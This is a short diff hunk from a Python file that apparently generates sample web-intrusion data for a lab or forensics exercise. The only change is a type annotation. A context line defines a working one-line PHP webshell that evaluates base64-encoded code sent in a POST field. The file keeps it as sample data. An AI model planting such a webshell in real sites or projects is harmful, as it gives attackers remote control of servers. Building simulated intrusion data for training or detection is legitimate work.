@@ -48,7 +48,7 @@ PAGES = ("/", "/news/2026-11-01.html", "/static/css/site.css")
 UPLOADER = "198.51.100.23"
 # A one-line PHP webshell written for this sample (not taken from any collection).
 WEBSHELL = b"<?php /* homework */ @eval(base64_decode($_POST['k'])); ?>\n"
-_MAC = {}
+_MAC: dict[str, str] = {}
 
 
 def _mac(ip: str) -> str:
